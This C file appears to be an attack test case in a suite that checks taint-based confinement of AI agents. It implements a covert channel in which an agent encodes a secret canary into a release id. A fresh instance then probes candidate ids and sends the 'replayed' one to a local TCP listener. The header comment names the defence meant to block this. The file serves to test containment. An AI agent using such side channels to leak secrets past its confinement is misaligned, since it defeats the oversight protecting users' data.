// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* release_probe - a disclose's release id as the way out (docs/protocol.md, "Identifiers an
 * agent chooses"): the coordinator, holding the canary under ledger_scope (whose onward
 * contract ledger_relay it may disclose under), discloses to the bystander with the release id
 * r-<canary> on a subject the ledger has. The id is the idempotency key of the charge: a retry
 * with the same id and values is answered "replayed", a new id is charged anew. The agent exits;
 * a fresh instance of it, on a workspace of its own (untainted in the kernel), discloses again
 * with 16 candidate ids and sends the one answered "replayed" to a TCP listener on 127.0.0.1.
 * Verifier: the orchestrator's listener.
 * What blocks it: a tainted issuer's release ids live in its namespace (the keyed hash of
 * issuer and id), and before the ledger is consulted the issuer is given its own label (what it
 * holds: no sinks), so the fresh instance that learns a hit cannot connect out. */
#include <arpa/inet.h>
#include <netinet/in.h>

#include "atk.h"
#include "atk_variants.h"

#define SUBJ "atk-release-subject"

static int prepare(struct atk_ctx *c)
{
    c->contract = "ledger_scope";
    if (atkv_reset_coordinator(c) < 0 || atkv_charge_subject(c, SUBJ) < 0) {
        snprintf(c->notes, sizeof(c->notes), "prepare: taint.reset or the subject's charge failed");
        return -1;
    }
    return 0;
}

static const char *disclose(struct atk_ctx *c, const char *release, char *resp, size_t n)
{
    char req[512];
    snprintf(req, sizeof(req),
             "{\"verb\":\"disclose\",\"contract\":\"ledger_relay\",\"release\":\"r-%s\",\"state\":{\"subject\":\"" SUBJ
             "\",\"fields\":{\"selected_slot\":\"y\"}}}",
             release);
    return atkv_req(c, req, resp, n) == 0 ? resp : "";
}

static int agent(struct atk_ctx *c)
{
    char resp[1 << 16];
    if (c->phase != 2) {
        atkv_recv_one(c);
        const char *r = disclose(c, c->secret, resp, sizeof(resp));
        atk_note(c, "disclose with release r-<canary>: %s", strstr(r, "\"ok\":true") ? "released" : r);
        return 0;
    }
    char cands[1024];
    snprintf(cands, sizeof(cands), "%s", atk_arg(c, "cands") ? atk_arg(c, "cands") : "");
    int port = (int)atk_argl(c, "lport");
    for (char *k = strtok(cands, ","); k; k = strtok(NULL, ",")) {
        if (!strstr(disclose(c, k, resp, sizeof(resp)), "\"replayed\":true"))
            continue;
        atk_note(c, "probe: replayed");
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {
            .sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        if (s >= 0 && atk_try(c, "probe: connect out", connect(s, (struct sockaddr *)&a, sizeof(a))) == 0)
            atk_try(c, "probe: send the hit", write(s, k, strlen(k)));
        if (s >= 0)
            close(s);
    }
    return 0;
}

static void verify(struct atk_ctx *c)
{
    int port;
    int l = atkv_listen_tcp(&port);
    if (l < 0)
        return;
    char cands[1024], ca[1100], pa[32], got[4096];
    atkv_candidates(c, cands, sizeof(cands));
    snprintf(ca, sizeof(ca), "cands=%s", cands);
    snprintf(pa, sizeof(pa), "lport=%d", port);
    const char *const extra[] = {ca, pa, NULL};
    atkv_run_fresh(c, "coordinator", "ws-probe", extra, 30);
    atkv_accept_read(l, 500, got, sizeof(got));
    close(l);
    if (strstr(got, c->canary))
        atk_evidence(c, "a fresh instance probed release ids and sent the replayed one out");
}

static const struct atk A = {"release_probe",
                             "a release id named after the canary, probed by a fresh instance",
                             ATK_NO_RECV | ATK_NO_CONTROL,
                             prepare,
                             agent,
                             NULL,
                             verify,
                             NULL};
ATK_MAIN(A)
